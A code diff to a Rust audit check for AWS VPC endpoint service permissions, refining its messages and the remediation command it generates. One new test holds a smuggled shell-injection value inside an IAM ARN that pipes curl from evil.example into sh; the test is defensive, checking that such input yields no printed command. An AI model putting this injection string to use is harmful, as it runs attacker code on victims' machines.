@@ -1,7 +1,7 @@
 //! `service.principals`: are the allowed principals dbt's, and known accounts', and nobody else's?
 
 use super::spec::{ALWAYS, Absence};
-use super::{CheckContext, CheckResult, Finding, Group, Region, Remedy, Severity, Spec, Status, count, limited};
+use super::{CheckContext, CheckResult, Command, Finding, Group, Region, Remedy, Severity, Spec, Status, limited};
 use crate::config::{Policy, Principal};
 use crate::ids::{AccountId, Arn};
 use crate::snapshot::known;
@@ -17,6 +17,7 @@ pub(super) const SPEC: Spec = Spec {
         (Severity::Warning, "others besides dbt and `KnownAccounts`"),
     ],
     fails_when: "the allowed principals are not dbt's, or not only dbt's and those of `KnownAccounts`",
+    was: "wrong",
     impact: "If dbt is missing, it cannot create an endpoint; existing connections keep working. If others are \
              allowed, nothing changes for dbt, but they can send connection requests.",
     fix_in_short: "`modify-vpc-endpoint-service-permissions`",
@@ -56,24 +57,32 @@ fn judge(allowed: &[String], context: CheckContext<'_>) -> Status {
     let (severity, summary, impact) = if anybody {
         (
             Severity::Critical,
-            "anybody may ask to connect ('*' is allowed)".to_owned(),
-            "dbt is not affected. But any AWS account can ask now: the guard accepts none but dbt's, and whoever else may \
-             accept requests in your account could let anybody in.",
+            "any AWS account may request a connection (\"*\" is allowed)".to_owned(),
+            "Nothing changes for dbt. But every AWS account can send requests now. The guard accepts only dbt's, but \
+             anyone in your account who may accept requests could let another account in.",
         )
     } else if !missing.is_empty() {
         (
             Severity::Critical,
-            format!("dbt may not ask to connect: {} is not an allowed principal", missing.join(", ")),
-            "dbt cannot create an endpoint to this service: to dbt, it does not exist. A connection that lives goes on.",
+            match policy.principals.len() {
+                1 => "dbt is not an allowed principal".to_owned(),
+                all => format!("{} of {all} dbt principals are not allowed", missing.len()),
+            },
+            "dbt cannot create an endpoint: for dbt, the service does not exist. Existing connections keep working.",
         )
     } else if !others.is_empty() {
         (
             Severity::Warning,
-            format!("{} besides dbt may ask to connect", count(others.len(), "unknown principal")),
+            match others.len() {
+                1 => "1 unknown principal is allowed besides dbt".to_owned(),
+                number => format!("{number} unknown principals are allowed besides dbt"),
+            },
             "Nothing changes for dbt, but others can send connection requests.",
         )
+    } else if policy.known_accounts.is_empty() {
+        return Status::pass("dbt is an allowed principal, and nobody else is");
     } else {
-        return Status::Pass;
+        return Status::pass("dbt is an allowed principal, and nobody else but known accounts");
     };
     // While '*' is allowed, dbt is not kept out.
     let kept_out = if anybody { Vec::new() } else { missing.iter().map(|arn| format!("missing: {arn}")).collect() };
@@ -82,7 +91,11 @@ fn judge(allowed: &[String], context: CheckContext<'_>) -> Status {
         severity,
         summary,
         impact: impact.to_owned(),
-        evidence: limited(allowed.iter().map(|principal| format!("allowed: {principal}")).collect(), MAX_PRINCIPALS),
+        evidence: missing
+            .iter()
+            .map(|arn| format!("missing: {arn}"))
+            .chain(limited(allowed.iter().map(|principal| format!("allowed: {principal}")).collect(), MAX_PRINCIPALS))
+            .collect(),
         remedy: remedy(allowed, &missing, context),
         cause: None,
         parts: parts.chain(others.iter().map(ToString::to_string)).collect(),
@@ -93,24 +106,16 @@ fn judge(allowed: &[String], context: CheckContext<'_>) -> Status {
 /// Adds the missing principals and removes those that are neither dbt's nor known accounts'.
 fn remedy(allowed: &[String], missing: &[String], context: CheckContext<'_>) -> Remedy {
     let CheckContext { service, policy, region, .. } = context;
-    let mut arguments = Vec::new();
-    if !missing.is_empty() {
-        arguments.push(format!("--add-allowed-principals {}", missing.join(" ")));
-    }
     let excess = allowed.iter().filter(|principal| !is_expected(principal, policy)).take(MAX_PRINCIPALS);
-    let excess: Vec<String> = excess.map(|principal| format!("'{principal}'")).collect();
-    if !excess.is_empty() {
-        arguments.push(format!("--remove-allowed-principals {}", excess.join(" ")));
-    }
-    Remedy {
-        action: "Allow dbt's principals, and no unknown ones. This closes no connection that exists.".to_owned(),
-        command: Some(format!(
-            "aws ec2 modify-vpc-endpoint-service-permissions --region {} --service-id {service} {}",
-            region.name(),
-            arguments.join(" ")
-        )),
-        console: region.endpoint_service(service.as_str()),
-    }
+    let command = Command::new("ec2 modify-vpc-endpoint-service-permissions", region)
+        .option("service-id", service)
+        .options("add-allowed-principals", missing)
+        .options("remove-allowed-principals", excess);
+    Remedy::new(
+        "Allow dbt's principals and nobody unknown. This closes no existing connection.",
+        Some(command),
+        region.endpoint_service(service.as_str()),
+    )
 }
 
 /// The account of an allowed principal, and the ARN unless it is the whole account. EC2 lists an account by its id or by
@@ -207,7 +212,7 @@ mod tests {
     fn the_command_adds_dbt_and_removes_the_others() {
         let allowed = Ok(vec!["*".to_owned(), OTHER.to_owned(), KNOWN.to_owned()]);
         let command = failure(status(ROOT, allowed)).unwrap().remedy.command.unwrap();
-        let expected = format!("--add-allowed-principals {ROOT} --remove-allowed-principals '*' '{OTHER}'");
+        let expected = format!("--add-allowed-principals {ROOT} --remove-allowed-principals '*' {OTHER}");
         assert!(command.ends_with(&expected), "{command}");
     }
 
@@ -227,5 +232,15 @@ mod tests {
     fn a_failed_read_is_unknown() {
         let failed = Err(call_error("ec2:DescribeVpcEndpointServicePermissions"));
         assert!(matches!(status(ROOT, failed), Status::Unknown(_)));
+    }
+
+    #[test]
+    fn a_hostile_principal_gets_a_sentence_instead_of_a_command() {
+        // IAM allows any character from ! to DEL in a path.
+        let hostile = "arn:aws:iam::999999999999:role/';curl${IFS}evil.example|sh;:'/x";
+        let finding = failure(status(ROOT, Ok(vec![ROOT.to_owned(), hostile.to_owned()]))).unwrap();
+        assert_eq!(finding.remedy.command, None);
+        assert!(finding.remedy.action.contains("No command is printed"), "{}", finding.remedy.action);
+        assert!(finding.evidence.contains(&format!("allowed: {hostile}")), "people see what it is");
     }
 }
